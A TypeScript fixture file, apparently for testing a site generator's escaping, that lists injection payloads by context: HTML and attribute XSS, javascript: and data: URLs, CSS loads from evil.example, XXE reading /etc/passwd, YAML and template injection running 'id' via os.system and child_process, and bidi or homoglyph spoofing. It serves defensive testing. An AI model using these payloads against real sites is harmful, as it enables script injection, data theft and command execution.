/*
 * Hostile texts, by the place in a page that they try to break out of. Every one that could run calls alert(1); every
 * one that could load asks evil.example.
 */

/** Raw HTML: elements that run, load, frame, redirect, or tear the page apart. */
const HTML = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script\n>alert(1)</script\n>",
  "<script/x>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "</style><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "</script><script>alert(1)</script>",
  "--><script>alert(1)</script>",
  "]]><script>alert(1)</script>",
  "<!--[if IE]><script>alert(1)</script><![endif]-->",
  "<!-- --!><img src=x onerror=alert(1)> -->",
  "<img src=x onerror=alert(1)>",
  "<img src=https://evil.example/pixel.png>",
  "<img srcset='https://evil.example/a.png 1x'>",
  "<picture><source srcset=https://evil.example/a.png><img></picture>",
  "<body onload=alert(1)>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
  "<object data=https://evil.example/x.swf></object>",
  "<embed src=https://evil.example/x>",
  "<base href=https://evil.example/>",
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<link rel=preconnect href=https://evil.example/>",
  "<form action=https://evil.example/><input name=q autofocus onfocus=alert(1)></form>",
  "<button formaction=javascript:alert(1)>x</button>",
  "<details open ontoggle=alert(1)>x</details>",
  "<video autoplay src=https://evil.example/v.mp4 onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<template><script>alert(1)</script></template>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<table><td><form><input></td></form></table><div>",
  "</div></main></body></html><script>alert(1)</script>",
  "<plaintext>",
  "<xmp><script>alert(1)</script></xmp>",
  "<isindex action=javascript:alert(1) type=submit>",
  "<portal src=https://evil.example/></portal>",
];

/** Texts that try to leave an attribute's value, quoted or not. */
const ATTRIBUTE = [
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  "` onmouseover=alert(1) `",
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '" autofocus onfocus=alert(1) x="',
  '" style="background:url(https://evil.example/)" x="',
  "&quot; onclick=&quot;alert(1)",
  "&#34;&#62;&#60;script&#62;alert(1)&#60;/script&#62;",
  '" accesskey="x" onclick="alert(1)" x="',
  "\u02BA\uFF1E\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
  '\\"><script>alert(1)</script>',
  '"/><svg/onload=alert(1)>',
  '" dir="ltr" lang="x"><h1>',
];

/** Addresses that run, load data, or lead elsewhere than they say. */
const URL_TEXTS = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "javascript://%0aalert(1)",
  "java\tscript:alert(1)",
  "javascript&colon;alert(1)",
  "&#106;&#97;vascript:alert(1)",
  "\u0001javascript:alert(1)",
  "java\u200Bscript:alert(1)",
  "\u202Ejavascript:alert(1)",
  "javascript%3aalert(1)",
  "%6aavascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
  "vbscript:alert(1)",
  "file:///etc/passwd",
  "//evil.example/x",
  "\\\\evil.example\\x",
  "/\\evil.example/x",
  "https://user:password@evil.example/",
  "https://evil.example\u3002com/",
  "http://[::1]/",
  "view-source:https://example.org/",
  'https://example.org/"onclick="alert(1)',
  "https://example.org/%0d%0aSet-Cookie:x=1",
];

/** Styles that load, run or cover the page. */
const CSS = [
  "<style>@import'https://evil.example/x.css';</style>",
  "<style>body{background:url(//evil.example/x)}</style>",
  "<p style='position:fixed;inset:0;background:url(https://evil.example/x)'>x</p>",
  "<div style='width:expression(alert(1))'>x</div>",
  "<div style='behavior:url(#default#x)'>x</div>",
  "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
  "<link rel=stylesheet href=data:text/css,body{display:none}>",
  "}</style><style>*{display:none}",
];

/** Texts that try to leave XML: of feeds, sitemaps, OPML. */
const XML = [
  "]]></description><script>alert(1)</script>",
  "]]>&lt;![CDATA[",
  "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
  "<!ENTITY % p SYSTEM 'https://evil.example/x.dtd'>",
  "<?xml-stylesheet href='https://evil.example/x.xsl'?>",
  "&lol9;&nbsp;&unknown;",
  "</title></item></channel></rss>",
  "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/passwd'/>",
];

/** Texts that try to leave a YAML value or to name a type. */
const YAML = [
  "!!js/function 'function(){alert(1)}'",
  "!!python/object/apply:os.system ['id']",
  "a: b\n---\ntitle: دیگری",
  "*alias",
  "&anchor [*anchor]",
  "{__proto__: {polluted: yes}}",
];

/** Templates of the engines that a generator may run, and of JavaScript. */
const TEMPLATE = [
  "{{ 7*7 }}{{ collections.all }}",
  "{% include '/etc/passwd' %}",
  "{{ constructor.constructor('alert(1)')() }}",
  "{{ range.constructor('return process')().mainModule.require('child_process').execSync('id') }}",
  "{%- for x in (1..99999999) -%}x{%- endfor -%}",
  "<%= process.env %>",
  "$\u007Balert(1)}",
  "#{7*7}",
  "{{ content | safe }}{% raw %}{{ x }}",
  "---js\n{ permalink: '/evil/' }\n---",
];

/** Texts that read other than they are written. */
const BIDI = [
  "\u202Eri.anss\u202C",
  "\u202D\u202Eمتن",
  "\u2067\u2066isna.ir\u2069",
  "\u2066\u2067\u2068بی‌پایان",
  "isna\u200B.ir \u2063\u{E0041}\u{E0042}",
  "isn\u0430.ir",
  "&#x202E;ri.anss",
  "می\u0000شود \u0008\u001B[31m",
];

/** Texts that every place of an article is filled with. */
export const TEXTS: readonly string[] = [
  ...HTML,
  ...ATTRIBUTE,
  ...URL_TEXTS,
  ...CSS,
  ...XML,
  ...YAML,
  ...TEMPLATE,
  ...BIDI,
];

const svg = (inside: string, attributes = ""): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9"${attributes}>${inside}<path d="M0 0h9v9z"/></svg>`;

/** Pictures that run or load when they are opened by themselves; all of them well-formed. */
export const SVGS: readonly string[] = [
  svg("<script>alert(1)</script>"),
  svg("<script xlink:href='https://evil.example/x.js'/>"),
  svg("", " onload='alert(1)'"),
  svg("<a href='javascript:alert(1)'><rect width='9' height='9'/></a>"),
  svg("<animate attributeName='href' to='javascript:alert(1)'/>"),
  svg("<set attributeName='onmouseover' to='alert(1)'/>"),
  svg("<foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='alert(1)'/></foreignObject>"),
  svg("<image href='https://evil.example/x.png'/>"),
  svg("<use href='data:image/svg+xml,&lt;svg onload=alert(1)&gt;#x'/>"),
  svg("<use xlink:href='https://evil.example/x.svg#a'/>"),
  svg("<style>@import url(https://evil.example/x.css);</style>"),
  svg("<style>path{fill:u\\72l(https://evil.example/x)}</style>"),
  svg("<rect style='fill:url(https://evil.example/#a)'/>"),
  svg("<feImage href='https://evil.example/x.png'/>"),
  svg("<handler xmlns='http://www.w3.org/2000/svg' type='text/javascript'>alert(1)</handler>"),
  svg("<x:script xmlns:x='http://www.w3.org/2000/svg'>alert(1)</x:script>"),
  svg("<iframe xmlns='http://www.w3.org/1999/xhtml' src='https://evil.example/'/>"),
];
